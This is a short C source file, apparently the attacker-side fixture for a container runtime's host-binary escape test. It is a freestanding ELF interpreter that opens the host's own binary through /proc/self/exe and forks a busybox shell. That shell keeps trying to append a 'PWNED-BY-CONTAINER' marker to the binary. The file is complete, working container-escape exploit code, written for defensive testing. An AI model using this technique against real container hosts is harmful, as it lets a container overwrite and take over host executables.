/* The attacker's "dynamic loader" of the host-binary escape test (tests/escapes.rs): the
 * kernel runs it when the host's tong binary is exec'd inside the container. It keeps
 * the exe as an O_PATH descriptor, forks, and the child (a shell) appends a marker to
 * the binary once no process runs it any more (ETXTBSY until then). Freestanding: as an ELF
 * interpreter, libc's startup would read the auxv of the binary it "loads". x86_64. */
#include <asm/unistd.h>

static long sys3(long n, long a, long b, long c)
{
	long ret;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return ret;
}
__asm__(".text\n.global _start\n_start:\n  and $-16, %rsp\n  call attack\n  hlt\n");

void __attribute__((noreturn, used)) attack(void)
{
	/* The forked child must not run tong itself (the kernel refuses writes to the exe
	 * of a live mm): it execs the container's shell, which keeps trying. */
	static char *argv[] = {"sh", "-c",
		"for i in $(seq 200); do echo PWNED-BY-CONTAINER >> /proc/self/fd/9 2>/dev/null "
		"&& exit; usleep 25000; done", 0};
	static char *envp[] = {0};
	long fd = sys3(__NR_open, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
	if (fd >= 0 && sys3(__NR_fork, 0, 0, 0) == 0) {
		sys3(__NR_dup2, fd, 9, 0);
		sys3(__NR_execve, (long)"/bin/busybox", (long)argv, (long)envp);
	}
	for (;;)
		sys3(__NR_exit_group, 0, 0, 0);
}
